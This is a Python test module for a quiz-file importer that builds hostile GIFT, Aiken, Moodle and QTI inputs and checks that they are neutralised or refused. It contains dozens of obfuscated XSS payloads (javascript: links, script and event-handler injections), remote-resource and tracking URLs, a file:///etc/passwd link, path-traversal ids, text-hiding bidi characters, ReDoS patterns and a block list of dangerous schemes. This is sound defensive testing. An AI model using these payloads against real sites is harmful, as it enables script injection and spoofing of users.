"""Hostile texts: GIFT, Aiken, pasted text and their HTML; links that run something, characters that hide or turn."""

from functools import partial
from html import escape

from tests.hostile.cases import Case, Refused, Safe
from tests.hostile.markup import qti, quiz

GIFT = "::Good:: Who may read it? {=Whoever needs it ~Everybody}\n\n"

LINKS = {
    "javascript": "javascript:alert(1)",
    "javascript-case": "JaVaScRiPt:alert(1)",
    "javascript-blank-before": " \t\n javascript:alert(1)",
    "javascript-control-before": "&#1;javascript:alert(1)",
    "javascript-tab-within": "java&#9;script:alert(1)",
    "javascript-newline-within": "java&#10;script&#13;:alert(1)",
    "javascript-entities": "&#106;&#x61;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "javascript-entities-long": "&#0000106avascript:alert(1)",
    "javascript-entities-named": "javascript&colon;alert(1)",
    "javascript-tab-named": "java&Tab;script:alert(1)",
    "javascript-newline-named": "java&NewLine;script:alert(1)",
    "javascript-percent": "javascript:%61lert(1)",
    "javascript-twice": "javascript:javascript:alert(1)",
    "javascript-full-width": "ｊavascript:alert(1)",
    "javascript-comment": "javascript://example.org/%0aalert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "data-page": "data:text/html,<script>alert(1)</script>",
    "data-base64": "data:text/html;base64,PHNjcmlwdD4=",
    "file": "file:///etc/passwd",
    "share": "\\\\192.0.2.1\\share",
    "protocol-relative": "//192.0.2.1/x",
    "blob": "blob:https://example.org/1",
    "view-source": "view-source:https://example.org",
    "ms-office": "ms-word:ofe|u|http://192.0.2.1/a.doc",
    "search-ms": "search-ms:query=x",
    "https-with-blank": "https://example.org/ javascript:alert(1)",
    "https-turned": "https://example.org/&#8238;gpj.exe",
}
HTML = {
    "script": "<script>alert('boo!')</script>",
    "script-broken": "<script >alert('boo!')</script\n>",
    "script-never-ends": "<script>alert('boo!')",
    "script-in-script": "<scr<script>ipt>alert('boo!')</scr</script>ipt>",
    "script-case": "<ScRiPt>alert('boo!')</sCrIpT>",
    "script-slash": "<script/x>alert('boo!')</script>",
    "script-nul": "<scr&#0;ipt>alert('boo!')</scr&#0;ipt>",
    "script-outside": '<script src="http://192.0.2.1/a.js"></script>',
    "picture-onerror": "<img src=x onerror=alert('boo!')>",
    "picture-data": '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    "picture-tracking": '<img src="http://192.0.2.1/track.gif" width=1>',
    "picture-srcset": '<img srcset="http://192.0.2.1/a 1x">',
    "picture-alt": '<img alt="<script>alert(1)</script>" src=x>',
    "on-everything": "<b onclick=alert('boo!') onmouseover='x' onfocus=x autofocus tabindex=1>a</b>",
    "style": "<style>*{background:url(http://192.0.2.1/a)}</style>",
    "style-attribute": "<p style=\"background:url('javascript:alert(1)')\">a</p>",
    "style-import": "<style>@import 'http://192.0.2.1/a.css';</style>",
    "frame": '<iframe src="javascript:alert(1)"></iframe>',
    "frame-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="data:text/html,x"></object>',
    "embed": '<embed src="http://192.0.2.1/a.swf">',
    "svg": "<svg onload=alert('boo!')><script>alert('boo!')</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "svg-foreign": "<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>",
    "math": "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
    "refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base": '<base href="javascript:alert(1)//">',
    "form": '<form action="http://192.0.2.1/"><input name=pin><button formaction="javascript:x">go</button></form>',
    "link": '<link rel=stylesheet href="http://192.0.2.1/a.css">',
    "template": "<template><script>alert('boo!')</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "comment-conditional": "<!--[if IE]><script>alert('boo!')</script><![endif]-->",
    "comment-odd": "<!--><script>alert('boo!')</script>-->",
    "cdata": "<![CDATA[<script>alert('boo!')</script>]]>",
    "details": "<details open ontoggle=alert('boo!')>a</details>",
    "video": "<video><source onerror=alert('boo!')></video>",
    "marquee": "<marquee onstart=alert('boo!')>a</marquee>",
    "textarea": "<textarea><script>alert('boo!')</script></textarea>",
    "title": "<title><img src=x onerror=alert('boo!')></title>",
    "xmp": "<xmp><script>alert('boo!')</script></xmp>",
    "is-attribute": '<a is="x" href="javascript:alert(1)" target=_blank>a</a>',
    "area": '<map><area href="javascript:alert(1)"></map>',
    "two-hrefs": '<a href="https://example.org" href="javascript:alert(1)">a</a>',
    "quote-open": '<a href="javascript:alert(1)>a</a>',
}
_GONE = ("javascript:", "vbscript:", "data:text", "data:image", "alert('boo!')", "file:", "blob:", "view-source:",
         "search-ms:", "ms-word:", "192.0.2.1")  # fmt: skip
_HIDING = {
    "turned-rlo": "\u202e",
    "turned-lre": "\u202a",
    "turned-pop": "\u202c",
    "isolate-rli": "\u2067",
    "isolate-pop": "\u2069",
    "escape": "\x1b[2J",
    "bell": "\x07",
    "delete": "\x7f",
    "c1": "\x9b31m",
    "backspace": "a\x08",
}


def gift_html(html: str) -> bytes:
    """Return GIFT with HTML in its question, after a harmless one."""
    words = "".join(f"\\{char}" if char in "~=#{}:" else char for char in html).replace("\n", "\\n")
    return f"{GIFT}::x:: [html]x {words} y {{=a ~b}}".encode()


def _links() -> list[Case]:
    found = []
    for name, address in LINKS.items():
        html = f'<a href="{address}">words</a>'
        gone = tuple(one for one in _GONE if one != "192.0.2.1" or "http" in address)
        found += [
            Case(f"gift-link-{name}", "gift-html", partial(gift_html, html), Safe(1, gone)),
            Case(f"moodle-link-{name}", "moodle", partial(quiz, escape(html)), Safe(0, gone)),
        ]
    return found


def _html() -> list[Case]:
    found = []
    for name, html in HTML.items():
        is_words = name == "picture-alt"  # what an attribute says is text like any other, and is shown as it stands
        found += [
            Case(
                f"gift-html-{name}", "gift" if is_words else "gift-html", partial(gift_html, html), Safe(1, _GONE[:4])
            ),
            Case(
                f"moodle-html-{name}",
                "moodle-plain" if is_words else "moodle",
                partial(quiz, escape(html)),
                Safe(1, _GONE[:4]),
            ),
        ]
    floods = {
        "tags": "<b>" * 30_000,
        "tags-open": "<b " * 30_000,
        "quotes": "<a href='" * 10_000,
        "comments": "<!--" * 20_000,
        "scripts": "<script>" * 12_000,
        "scripts-almost-closed": "<script>" + "</scrip" * 14_000,
        "raw-almost-closed": "<style></script>" * 6_000,
        "entities": "&" * 90_000,
        "entities-long": "&" + "a" * 90_000,
        "spans": '<span lang="en" class="multilang">' * 2_900,
        "attributes": f"<b {'a=b ' * 24_000}>",
        "angles": "<" * 90_000,
        "lists": "<ul><li>" * 10_000,
        "links": "<a href='https://example.org'>a" * 3_000,
        "readings": "<ruby>a<rt>b" * 8_000,
    }
    for name, html in floods.items():
        found += [
            Case(f"gift-flood-html-{name}", "gift-html", partial(gift_html, html), Safe(1)),
            Case(f"moodle-flood-html-{name}", "moodle", partial(_many, html), Safe(0)),
        ]
    return found


def _many(html: str) -> bytes:
    """Twelve questions, each with the same flood."""
    one = quiz(escape(html)).decode()
    question = one.removeprefix("<quiz>").removesuffix("</quiz>")
    return f"<quiz>{question * 12}</quiz>".encode()


def _characters() -> list[Case]:
    found = []
    for name, chars in _HIDING.items():
        text = f"::a{chars}b:: Who? {{=c ~d}}"
        told = f"U+{ord(chars[-1] if chars[0] == 'a' else chars[0]):04X}"
        found += [
            Case(f"gift-{name}", "gift", partial(str.encode, GIFT + text), Safe(1, told=told)),
            Case(f"gift-option-{name}", "gift", partial(str.encode, f"{GIFT}Who? {{=c{chars} ~d}}"),
                 Safe(1, told=told)),
            Case(f"quick-{name}", "quick", partial(str.encode, f"Who?\n* a\n- b\n\nWhat{chars}?\n* a\n- b"),
                 Safe(1, told=told)),
            Case(f"aiken-{name}", "aiken", partial(str.encode, f"Who?\nA. x\nB. y{chars}z\nANSWER: A\n\nOne?\nA. x\n"
                                                   "B. y\nANSWER: B\n"), Safe(1, told=told)),
        ]  # fmt: skip
    return [
        *found,
        Case("gift-nul", "gift", lambda: GIFT.encode() + b"a\0b {=c ~d}", Refused("no text")),
        Case("gift-marks-of-its-own", "gift", lambda: f"{GIFT}a\ufdd0b\ufdd3 {{=c ~d}}".encode(),
             Safe(1, told="U+FDD0")),
        Case("gift-overlong", "gift", lambda: GIFT.encode() + b"\xc0\xbc\xe0\x80\xbcscript {=c ~d}", Safe(0)),
        Case("gift-surrogates", "gift", lambda: GIFT.encode() + b"a\xed\xa0\x80 {=c ~d}", Safe(0)),
        Case("gift-utf-16-cut", "gift", lambda: GIFT.encode("utf-16")[:-1], Refused("no text")),
        Case("gift-utf-16-surrogate", "gift", lambda: b"\xff\xfe" + "a".encode("utf-16-le") + b"\0\xd8",
             Refused("no text")),
        Case("gift-utf-32", "gift", lambda: GIFT.encode("utf-32"), Refused("no text")),
        Case("gift-binary", "gift", lambda: bytes(range(256)) * 100, Refused("no text")),
    ]  # fmt: skip


def _floods() -> list[Case]:
    found = []
    for name, sign in {"open": "{", "close": "}", "tilde": "~", "equals": "=", "hash": "#", "colon": ":",
                       "backslash": "\\", "slash": "/", "bracket": "[", "percent": "%", "dollar": "$",
                       "comment": "//[id:", "weight": "~%", "arrow": "->", "four": "####"}.items():  # fmt: skip
        flood = sign * (1_500_000 // len(sign))
        found += [
            Case(f"gift-flood-{name}", "gift", partial(str.encode, GIFT + flood), Safe(1)),
            Case(f"gift-flood-within-{name}", "gift", partial(str.encode, f"{GIFT}a {{{flood}}}"), Safe(1)),
        ]
    words = "x" * 19_900_000
    return [
        *found,
        Case("gift-line-20-mb", "gift", lambda: (GIFT + words).encode(), Safe(1, told="no answers")),
        Case("aiken-line-20-mb", "aiken", lambda: words.encode(), Safe(0)),
        Case("quick-line-20-mb", "quick", lambda: words.encode(), Safe(0, told="no answers")),
        Case("gift-more-than-20-mb", "gift", lambda: b"x" * 20_000_001, Refused("20 MB")),
        Case("gift-lines-empty", "gift", lambda: GIFT.encode() + b"\n" * 10_000_000, Safe(1)),
        Case("gift-lines-returns", "gift", lambda: GIFT.encode() + b"\r" * 10_000_000, Safe(1)),
        Case("gift-lines-one-block", "gift", lambda: (GIFT + "a\n" * 1_000_000).encode(), Safe(1)),
        Case("gift-comments", "gift", lambda: (GIFT + "//[tag:a]\n" * 300_000 + "x {=a ~b}").encode(), Safe(1)),
        Case("gift-categories", "gift", lambda: (GIFT + "$CATEGORY: a/b/c\n" * 150_000).encode(), Safe(1)),
        Case("gift-category-deep", "gift", lambda: f"$CATEGORY: {'a/' * 100_000}\n\n{GIFT * 20}".encode(), Safe(1)),
        Case("gift-questions-tiny", "gift", lambda: GIFT.encode() + b"a\n\n" * 60_000, Safe(1)),
        Case("gift-options-many", "gift", lambda: (GIFT + "a {" + "~b" * 100_000 + "=c}").encode(), Safe(1)),
        Case("gift-tags-of-one", "gift", lambda: ("//" + "[tag:a]" * 100_000 + f"\n{GIFT}").encode(), Safe(0)),
        Case("aiken-choices", "aiken", lambda: b"Who?\n" + b"A. x\n" * 300_000 + b"ANSWER: A\n", Refused()),
        Case("aiken-answers", "aiken", lambda: b"ANSWER: A\n" * 60_000, Safe(0)),
        Case("quick-options", "quick", lambda: b"Who?\n" + b"- x\n" * 100_000, Safe(0)),
        Case("quick-marks", "quick", lambda: ("Who? " + "*" * 500_000 + "\n* a\n- b").encode(), Safe(0)),
        Case("quick-brackets", "quick", lambda: ("Who?\n* a\n- b\n" + "[" * 500_000 + "]" * 500_000).encode(), Safe(0)),
        Case("quick-sections", "quick", lambda: ("Who?\n* a\n- b\n§" + " 3.4," * 200_000).encode(), Safe(0)),
        Case("quick-blanks", "quick", lambda: ("Who?\n*" + " " * 1_000_000 + "\n- b").encode(), Safe(0)),
        Case("quick-numbers", "quick", lambda: ("1" * 500_000 + ". Who?\n= " + "9" * 500_000).encode(), Safe(0)),
        Case("any-nothing", "any", lambda: b" \n" * 1_000, Refused("empty"), "a.gift"),
        Case("any-answers-flood", "any", lambda: ("{ " * 2_000_000).encode(), Safe(0), "a.gift"),
        Case("gift-ids-clash", "gift", lambda: "\n".join(
            f"// [id:{'a' * 70}{n}]\nq {{T}}\n\n// [id:{'a' * 70}{n}]\nq {{T}}\n" for n in range(6_000)).encode(),
             Safe(12_000)),
        Case("gift-titles-clash", "gift", lambda: GIFT.encode() * 6_000, Safe(6_000)),
        Case("gift-id-leads-elsewhere", "gift", lambda: f"// [id:../../etc/passwd]\n{GIFT}".encode(), Safe(1, told="")),
        Case("gift-tag-leads-elsewhere", "gift",
             lambda: f"// [tag:commitment:../../x] [tag:page:../x] [tag:topic:a/b]\n{GIFT}".encode(),
             Safe(1, told="no id")),
    ]  # fmt: skip


def _numbers() -> list[Case]:
    found = []
    for value in ("NaN", "inf", "1e400", "-1e400", "1e-400", "٣", "0x10", "1_000", "9" * 5_000, "1e9999999999"):
        for name, answer in (("value", f"#{value}"), ("tolerance", f"#5:{value}"), ("range", f"#{value}..{value}"),
                             ("weight", f"~%{value}%a ~b")):  # fmt: skip
            found.append(Case(f"gift-{name}-{value[:10]}", "gift", partial(str.encode, f"{GIFT}How many? {{{answer}}}"),
                              Safe(1)))  # fmt: skip
    return [
        *found,
        Case("quick-number-nan", "quick", lambda: b"How many?\n= nan \xc2\xb1 inf", Safe(0)),
        Case("quick-number-digits", "quick", lambda: b"How many?\n= " + b"9" * 20_000 + b" \xc2\xb1 1", Safe(0)),
        Case("gift-wild-cards", "gift", lambda: f"{GIFT}Say {{=%100%{'*a' * 9_000} =b}}".encode(), Safe(1)),
        Case("gift-expression", "gift", lambda: f"{GIFT}Say {{=(a+)+$ =b}}".encode(), Safe(1)),
        Case("qti-pattern", "qti", lambda: qti("<b>(a+)+$</b>"), Safe(1)),
    ]


def cases() -> list[Case]:
    """Return every hostile text."""
    return [*_links(), *_html(), *_characters(), *_floods(), *_numbers()]


def twins() -> list[Case]:
    """Return harmless texts like them."""
    link = '<a href="https://example.org/">words</a> <a href="mailto:a@example.org">b</a>'
    return [
        Case("twin-gift", "gift", lambda: GIFT.encode(), Safe(1)),
        Case("twin-gift-japanese", "gift", lambda: "誰が？ {=担当者 ~全員}".encode("cp932"), Safe(1)),
        Case("twin-gift-link", "gift-html", partial(gift_html, link), Safe(2)),
        Case("twin-moodle-link", "moodle", partial(quiz, escape(link)), Safe(1)),
        Case("twin-gift-escapes", "gift", lambda: b"a \\{\\~\\=\\# {=c ~d}", Safe(1)),
        Case("twin-aiken", "aiken", lambda: b"Who?\nA. x\nB. y\nANSWER: A\n", Safe(1)),
        Case("twin-quick", "quick", lambda: b"Who?\n* a\n- b", Safe(1)),
        Case("twin-gift-number", "gift", lambda: b"How many? {#5:0.5}", Safe(1)),
        Case("twin-gift-joined", "gift", lambda: "👩\u200d💻 می\u200cخواهم {=a ~b}".encode(), Safe(1)),
    ]
